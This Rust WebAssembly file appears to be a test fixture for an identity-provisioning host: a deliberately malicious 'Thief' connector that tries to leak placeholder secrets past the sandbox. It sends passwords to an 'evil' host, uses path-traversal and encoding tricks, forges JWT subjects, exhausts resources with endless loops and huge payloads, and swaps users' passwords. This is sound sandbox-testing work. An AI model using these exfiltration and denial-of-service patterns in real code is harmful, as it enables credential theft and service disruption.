//! A connector that is built to steal. It declares what an honest one would, and then tries to get at what its placeholders stand for, in
//! the way that the setting `attack` names. What it has got hold of by the end is the message of the error that it refuses to open with.

#![cfg(target_arch = "wasm32")]
#![allow(missing_docs, clippy::missing_errors_doc)]

mod bindings {
    #![allow(unreachable_pub, unused_qualifications, clippy::all, clippy::pedantic, clippy::restriction)]

    wit_bindgen::generate!({ path: "../../wit", world: "connector", generate_all });

    use super::Thief;
    export!(Thief);
}

use bindings::exports::identity::provisioning::provisioning_connector as wit;
use bindings::identity::provisioning::http::{self, Failure, Method, Request, Response};
use bindings::identity::provisioning::types::{Error, ErrorKind, Features, Retry};
use bindings::identity::provisioning::{log, secrets};

struct Thief;

struct Session {
    settings: Settings,
}

#[derive(Clone)]
struct Settings(Vec<(String, String)>);

impl Settings {
    fn get(&self, name: &str) -> &str {
        self.0.iter().find(|(have, _)| have == name).map_or("", |(_, value)| value)
    }
}

fn json() -> (String, String) {
    ("content-type".to_owned(), "application/json".to_owned())
}

fn bearer(token: &str) -> (String, String) {
    ("authorization".to_owned(), format!("Bearer {token}"))
}

fn send(
    method: Method,
    url: String,
    headers: Vec<(String, String)>,
    body: Option<String>,
) -> Result<Response, Failure> {
    http::send(&Request { method, url, headers, body: body.map(String::into_bytes) })
}

/// Everything of an answer or a refusal, as loot.
fn loot(answer: Result<Response, Failure>) -> String {
    match answer {
        Ok(Response { status, headers, body }) => format!("{status} {headers:?} {}", String::from_utf8_lossy(&body)),
        Err(failure) => format!("{failure:?}"),
    }
}

/// What the answer to an honest sign-in has under `token`.
fn sign_in(settings: &Settings) -> (String, String) {
    let body = format!(r#"{{"username":"u","password":"{}"}}"#, settings.get("password"));
    let answer = loot(send(Method::Post, format!("{}/token", settings.get("app")), vec![json()], Some(body)));
    let token = answer.split_once("\"token\":\"").and_then(|(_, rest)| rest.split_once('"')).map(|(token, _)| token);
    (token.unwrap_or_default().to_owned(), answer)
}

fn attack(settings: &Settings) -> String {
    let (app, evil) = (settings.get("app"), settings.get("evil"));
    let (password, key) = (settings.get("password"), settings.get("key"));
    let note = |value: &str| Some(format!(r#"{{"note":"{value}"}}"#));
    let get = |url: String| loot(send(Method::Get, url, Vec::new(), None));
    match settings.get("attack") {
        // To an approved host, at a path and in a place that no use names, to be read back by another request.
        "echo" => {
            let stored = loot(send(Method::Post, format!("{app}/store"), vec![json()], note(password)));
            stored + &get(format!("{app}/store"))
        }
        "base64" => {
            let stored = loot(send(Method::Post, format!("{app}/store"), vec![json()], note(password)));
            stored + &get(format!("{app}/store?as=base64"))
        }
        "range" => {
            let (_, answer) = sign_in(settings);
            let part = ("range".to_owned(), "bytes=0-9".to_owned());
            answer + &loot(send(Method::Get, format!("{app}/last-body"), vec![part], None))
        }
        "deflate" => {
            let (_, answer) = sign_in(settings);
            answer + &get(format!("{app}/deflated"))
        }
        "answer-in-base64" => {
            let body = format!(r#"{{"username":"as-base64","password":"{password}"}}"#);
            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
        }
        "other-host" => {
            let body = format!(r#"{{"username":"u","password":"{password}"}}"#);
            loot(send(Method::Post, format!("{evil}/token"), vec![json()], Some(body)))
        }
        "other-path" => {
            let body = || Some(format!(r#"{{"username":"u","password":"{password}"}}"#));
            [
                "/store",
                "/token/",
                "//token",
                "/x/../token",
                "/token/..%2Fstore",
                "/%74oken",
                "/token;x",
                "/token/../store",
            ]
            .into_iter()
            .map(|path| loot(send(Method::Post, format!("{app}{path}"), vec![json()], body())))
            .collect()
        }
        "other-method" => {
            let body = Some(format!(r#"{{"password":"{password}"}}"#));
            loot(send(Method::Put, format!("{app}/token"), vec![json()], body))
        }
        "contact-field" => {
            let (token, _) = sign_in(settings);
            let url = format!("{app}/api/contacts");
            let stolen = loot(send(Method::Post, url.clone(), vec![json(), bearer(&token)], note(password)));
            let session = loot(send(Method::Post, url, vec![json(), bearer(&token)], note(&token)));
            stolen + &session + &loot(send(Method::Get, format!("{app}/api/contacts"), vec![bearer(&token)], None))
        }
        "other-header" => {
            let field = ("x-note".to_owned(), password.to_owned());
            loot(send(Method::Post, format!("{app}/token"), vec![json(), field], note("x")))
        }
        "jwt-subject" => {
            let claims =
                |subject: &str| format!(r#"{{"iss":"client","sub":"{subject}","aud":"{app}","exp":{}}}"#, now() + 100);
            let token = secrets::sign_jwt(key, None, &claims("root")).unwrap_or_else(|error| error);
            let honest = secrets::sign_jwt(key, None, &claims("api")).unwrap_or_else(|error| error);
            // One that is signed honestly, to somebody else.
            let body = Some(format!("assertion={honest}"));
            let form = ("content-type".to_owned(), "application/x-www-form-urlencoded".to_owned());
            token + &loot(send(Method::Post, format!("{app}/store"), vec![form], body))
        }
        "jwt-message" => {
            let no_claims = secrets::sign_jwt(key, None, "any message at all");
            no_claims.unwrap_or_else(|error| error)
        }
        "basic" => secrets::basic("u", password).unwrap_or_else(|error| error),
        "learned-host" => {
            let body = format!(r#"{{"username":"at-evil","password":"{password}"}}"#);
            let answer = loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)));
            let token = answer.split_once("\"token\":\"").and_then(|(_, rest)| rest.split_once('"'));
            let token = token.map_or("", |(token, _)| token);
            answer.clone() + &loot(send(Method::Get, format!("{evil}/api/x"), vec![bearer(token)], None))
        }
        "split" => {
            let (token, _) = sign_in(settings);
            let (one, two) = password.split_at(20);
            let url = format!("{app}/api/contacts");
            let first = loot(send(Method::Post, url.clone(), vec![json(), bearer(&token)], note(one)));
            first + &loot(send(Method::Post, url, vec![json(), bearer(&token)], note(&format!("{two}{one}"))))
        }
        "escaped" => {
            // The placeholder as JSON may spell it: what no search of the bytes finds.
            let (token, _) = sign_in(settings);
            let spelt: String = password.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
            loot(send(Method::Post, format!("{app}/api/contacts"), vec![json(), bearer(&token)], note(&spelt)))
        }
        "in-the-address" => {
            let query = get(format!("{app}/api/x?note={password}"));
            query + &get(format!("{app}/api/{password}"))
        }
        "hidden-token" => {
            let body = format!(r#"{{"username":"twice","password":"{password}"}}"#);
            let answer = loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)));
            let (token, _) = sign_in(settings);
            answer + &loot(send(Method::Get, format!("{app}/api/whoami"), vec![bearer(&token)], None))
        }
        "broken-answer" => {
            let body = format!(r#"{{"username":"broken","password":"{password}"}}"#);
            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
        }
        "cookie" => {
            let (token, answer) = sign_in(settings);
            let cookie = ("cookie".to_owned(), format!("sid={token}"));
            answer + &loot(send(Method::Get, format!("{app}/api/x"), vec![cookie], None))
        }
        "twice-in-the-body" => {
            let body = format!(r#"{{"password":"{password}","password":"x"}}"#);
            loot(send(Method::Post, format!("{app}/token"), vec![json()], Some(body)))
        }
        "as-plain-text" => {
            let text = ("content-type".to_owned(), "text/plain".to_owned());
            loot(send(Method::Post, format!("{app}/token"), vec![text], Some(format!("password={password}"))))
        }
        "started" => {
            // What is started goes through the same gate as what is sent.
            let request = |method, url, body: Option<String>| Request {
                method,
                url,
                headers: vec![json()],
                body: body.map(String::into_bytes),
            };
            let stored = http::start(&request(Method::Post, format!("{app}/store"), note(password)));
            let elsewhere = http::start(&request(Method::Post, format!("{evil}/token"), note(password)));
            loot(http::finish(stored)) + &loot(http::finish(elsewhere))
        }
        "many-started" => {
            let echo = |number: u32| Request {
                method: Method::Get,
                url: format!("{app}/api/echo?of={number}."),
                headers: Vec::new(),
                body: None,
            };
            let started: Vec<u32> = (0..70).map(|number| http::start(&echo(number))).collect();
            let mut told: Vec<String> = started.iter().rev().map(|number| loot(http::finish(*number))).collect();
            told.reverse();
            // An answer is given once, and a number that was never started has none.
            told.push(loot(http::finish(started[0])));
            told.push(loot(http::finish(u32::MAX)));
            told.join("\n")
        }
        "reach" => get(format!("{app}/api/x")),
        "many-answers" | "many-answers-started" => {
            let large =
                || Request { method: Method::Get, url: format!("{app}/api/large"), headers: Vec::new(), body: None };
            let answers = match settings.get("attack") {
                "many-answers" => http::send_all(&(0..300).map(|_| large()).collect::<Vec<_>>()),
                _ => {
                    let started: Vec<u32> = (0..64).map(|_| http::start(&large())).collect();
                    // The last is here when nearly all are.
                    started.iter().rev().map(|number| http::finish(*number)).collect()
                }
            };
            let whole = answers.iter().filter(|answer| answer.is_ok()).count();
            let refused = answers.iter().filter(|answer| matches!(answer, Err(Failure::TooLarge(_)))).count();
            format!("{whole} whole, {refused} too large, of {}", answers.len())
        }
        "many-bodies" => {
            let body = vec![b'x'; 4 << 20];
            let large = Request {
                method: Method::Post,
                url: format!("{app}/api/slow"),
                headers: vec![json()],
                body: Some(body),
            };
            let started: Vec<u32> = (0..64).map(|_| http::start(&large)).collect();
            let told: Vec<String> = started.iter().rev().map(|number| loot(http::finish(*number))).collect();
            let refused = told.iter().filter(|told| told.contains("finish requests before sending more")).count();
            format!("{refused} of {} refused", told.len())
        }
        "long-claims" => {
            let claims = format!(
                r#"{{"iss":"client","sub":"api","aud":"{app}","exp":{},"x":"{}"}}"#,
                now() + 100,
                "x".repeat(20 << 20)
            );
            let mut told = String::new();
            for _ in 0..600 {
                told = secrets::sign_jwt(key, None, &claims).unwrap_or_else(|error| error);
            }
            told
        }
        "many-signatures" => {
            let claims = format!(r#"{{"iss":"client","sub":"api","aud":"{app}","exp":{}}}"#, now() + 100);
            loop {
                let _ = secrets::sign_jwt(key, None, &claims);
            }
        }
        "many-parts" => {
            let parts = format!(r#"{{"password":"{password}","x":[{}0]}}"#, "0,".repeat(60_000));
            let deep = format!("<a>{}{}{}</a>", "<b>".repeat(4_000), password, "</b>".repeat(4_000));
            let xml = ("content-type".to_owned(), "text/xml".to_owned());
            let many = |kind: (String, String), body: &str| {
                loot(send(Method::Post, format!("{app}/token"), vec![kind], Some(body.to_owned())))
            };
            let told = many(json(), &parts) + &many(xml, &deep);
            // What is within the bounds is worked at again and again.
            let within = format!(r#"{{"password":"{password}","x":[{}0]}}"#, "0,".repeat(9_000));
            for _ in 0..settings.get("guess").parse().unwrap_or(0) {
                let _ = many(json(), &within);
            }
            told
        }
        "many-requests" => {
            let request = || Request {
                method: Method::Get,
                url: "https://a.example/".to_owned(),
                headers: Vec::new(),
                body: None,
            };
            let told = http::send_all(&(0..1_001).map(|_| request()).collect::<Vec<_>>());
            told.into_iter().next().map(loot).unwrap_or_default()
        }
        "oracle" => {
            // If masking told which texts are secrets, the server would have them told one by one.
            let guess = settings.get("guess");
            let (token, _) = sign_in(settings);
            let url = format!("{app}/api/echo?of={guess}");
            loot(send(Method::Get, url, vec![bearer(&token)], None))
        }
        other => format!("no such attack: {other}"),
    }
}

fn now() -> u64 {
    bindings::wasi::clocks::wall_clock::now().seconds
}

fn refused(message: String) -> Error {
    Error { kind: ErrorKind::Transient, message, remedy: None, retry: Retry::Never, upstream: None }
}

fn setting(name: &str, kind: wit::SettingKind) -> wit::Setting {
    wit::Setting {
        name: name.to_owned(),
        label: name.to_owned(),
        help: "Whatever the test wants.".to_owned(),
        kind,
        required: false,
        panel: wit::Panel::General,
        multiline: false,
    }
}

fn put(secret: &str, place: wit::Place) -> wit::Put {
    wit::Put { secret: secret.to_owned(), form: wit::SecretForm::Plain, place }
}

fn secret_use(name: &str, hosts: &[&str], methods: &[Method], path: &str, puts: Vec<wit::Put>) -> wit::SecretUse {
    wit::SecretUse {
        name: name.to_owned(),
        hosts: hosts.iter().map(|host| (*host).to_owned()).collect(),
        methods: methods.to_vec(),
        path: path.to_owned(),
        puts,
        takes: Vec::new(),
        learns: None,
    }
}

impl wit::Guest for Thief {
    type Session = Session;

    fn describe() -> wit::Descriptor {
        let host = |name: &str, source| wit::HostEntry { name: name.to_owned(), source, when: None };
        let session = || put("session", wit::Place::Header(("authorization".to_owned(), "Bearer ".to_owned())));
        let password = put("password", wit::Place::Json("/password".to_owned()));
        let new = put("new-password", wit::Place::Json("/new".to_owned()));
        let mut sign_in = secret_use("sign-in", &["app"], &[Method::Post], "/token", vec![password]);
        sign_in.takes = vec![wit::Take { secret: "session".to_owned(), place: wit::Place::Json("/token".to_owned()) }];
        sign_in.learns = Some(("instance".to_owned(), wit::Place::Json("/instance".to_owned())));
        let mut by_key = secret_use("by-key", &["app"], &[Method::Post], "/token", Vec::new());
        by_key.puts = vec![wit::Put {
            secret: "key".to_owned(),
            form: wit::SecretForm::Jwt(wit::JwtBounds {
                issuer: "client".to_owned(),
                subject: "api".to_owned(),
                audience: "{host}".to_owned(),
                lifetime: 180,
            }),
            place: wit::Place::Form("assertion".to_owned()),
        }];
        let api = [Method::Get, Method::Post];
        wit::Descriptor {
            name: "Thief".to_owned(),
            version: "1.0.0".to_owned(),
            features: Features::SYNC_PASSWORD,
            settings: vec![
                setting("attack", wit::SettingKind::Text),
                setting("app", wit::SettingKind::Host),
                setting("evil", wit::SettingKind::Text),
                setting("guess", wit::SettingKind::Text),
                setting("password", wit::SettingKind::Secret),
                setting("key", wit::SettingKind::Secret),
            ],
            grants: Vec::new(),
            hosts: vec![
                host("app", wit::HostSource::Setting("app".to_owned())),
                host("instance", wit::HostSource::Learned),
            ],
            uses: vec![
                sign_in,
                by_key,
                secret_use("call", &["app", "instance"], &api, "/api/**", vec![session()]),
                secret_use("set", &["app"], &[Method::Post], "/users/{id}/password", vec![session(), new]),
            ],
        }
    }

    fn test_credentials(_: wit::Settings) -> Vec<wit::Probe> {
        Vec::new()
    }

    fn open(settings: wit::Settings) -> Result<wit::Session, Error> {
        let settings = Settings(settings);
        if matches!(settings.get("attack"), "other-user" | "endless-import" | "short-import") {
            return Ok(wit::Session::new(Session { settings }));
        }
        let got = attack(&settings);
        log::write(log::Level::Warn, &got, &[("password".to_owned(), settings.get("password").to_owned())]);
        Err(refused(got))
    }
}

impl wit::GuestSession for Session {
    fn list_attributes(&self) -> Result<Vec<wit::AttributeDefinition>, Error> {
        Ok(Vec::new())
    }

    fn list_entitlements(&self, _: String, _: Option<String>) -> Result<wit::EntitlementPage, Error> {
        Err(refused("there are none".to_owned()))
    }

    /// Users who are new with every page, a mebibyte of them, and never a last page; or three users.
    fn import_users(&self, query: wit::ImportQuery) -> Result<wit::ImportPage, Error> {
        let is_endless = self.settings.get("attack") == "endless-import";
        let first: u32 = match &query.scope {
            wit::ImportScope::Resume(cursor) => cursor.parse().unwrap_or(0),
            _ => 0,
        };
        let next = first + if is_endless { 1_000 } else { 3 };
        let user = |number: u32| wit::User {
            id: format!("X{number:09}"),
            username: format!("x{number}@x.example"),
            status: wit::Status::Active,
            modified: String::new(),
            values: vec![Some(wit::Value::Text("x".repeat(1_024)))],
            grants: Vec::new(),
        };
        Ok(wit::ImportPage {
            attributes: vec!["note".to_owned()],
            users: (first..next).map(user).collect(),
            departed: Vec::new(),
            next: is_endless.then(|| next.to_string()),
            watermark: None,
        })
    }

    fn push_users(
        &self,
        _: Vec<wit::DesiredUser>,
        _: wit::PushMode,
    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
        Err(refused("it pushes nobody".to_owned()))
    }

    fn deactivate_users(
        &self,
        _: Vec<String>,
        _: wit::Deactivation,
        _: wit::PushMode,
    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
        Err(refused("it takes nobody out of use".to_owned()))
    }

    fn reactivate_users(&self, _: Vec<String>, _: wit::PushMode) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
        Err(refused("it puts nobody into use".to_owned()))
    }

    fn take_back_users(
        &self,
        _: Vec<wit::Abandoned>,
        _: wit::Deactivation,
        _: wit::PushMode,
    ) -> Result<Vec<Result<wit::Outcome, Error>>, Error> {
        Err(refused("it has made nobody".to_owned()))
    }

    /// Gives each user the password of the next, and then its own.
    fn sync_passwords(&self, passwords: Vec<(String, String)>) -> Result<Vec<Result<(), Error>>, Error> {
        let (token, _) = sign_in(&self.settings);
        let app = self.settings.get("app");
        let set = |id: &str, password: &str| {
            let body = Some(format!(r#"{{"new":"{password}"}}"#));
            send(Method::Post, format!("{app}/users/{id}/password"), vec![json(), bearer(&token)], body)
        };
        let next = passwords.iter().cycle().skip(1);
        let stolen: Vec<String> =
            passwords.iter().zip(next).map(|((id, _), (_, password))| loot(set(id, password))).collect();
        Ok(passwords
            .iter()
            .zip(stolen)
            .map(|((id, password), stolen)| match set(id, password) {
                Ok(response) if response.status == 200 => Err(refused(format!("{stolen}; its own was set"))),
                other => Err(refused(format!("{stolen}; {}", loot(other)))),
            })
            .collect())
    }

    fn usage(&self) -> wit::Usage {
        wit::Usage { calls: 0, used: None, limit: None }
    }
}
